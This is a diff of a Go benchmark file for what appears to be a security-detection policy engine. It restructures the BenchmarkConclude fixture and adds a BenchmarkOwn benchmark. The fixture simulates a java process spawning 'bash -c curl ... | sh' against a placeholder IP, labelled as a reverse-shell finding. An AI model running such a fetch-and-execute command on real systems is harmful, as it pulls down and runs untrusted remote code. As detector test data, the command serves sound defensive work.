@@ -22,15 +22,23 @@ func BenchmarkAssess(b *testing.B) {
 	}
 }
 
-// BenchmarkConclude is the policy alone.
+// BenchmarkConclude is the policy alone, with company whose standing is known.
 func BenchmarkConclude(b *testing.B) {
 	p := mustDefault(b)
-	in := input(childShell("java", "bash", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
-		deployed(complete(), "alice@example.com", 3), other("Reverse Shell"), other("Malicious URL Observed"))
-	f := p.facts(newSubject(in))
+	s := newSubject(known(p, input(childShell("java", "bash", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
+		deployed(complete(), "alice@example.com", 3), other("Reverse Shell"), other("Malicious URL Observed")), complete()))
 	b.ReportAllocs()
 	for b.Loop() {
-		p.conclude(f)
+		p.conclude(s)
+	}
+}
+
+// BenchmarkOwn is the estimate of a member whose standing is not known.
+func BenchmarkOwn(b *testing.B) {
+	p, in := mustDefault(b), Input{Finding: other("Reverse Shell")}
+	b.ReportAllocs()
+	for b.Loop() {
+		p.Own(in)
 	}
 }
 
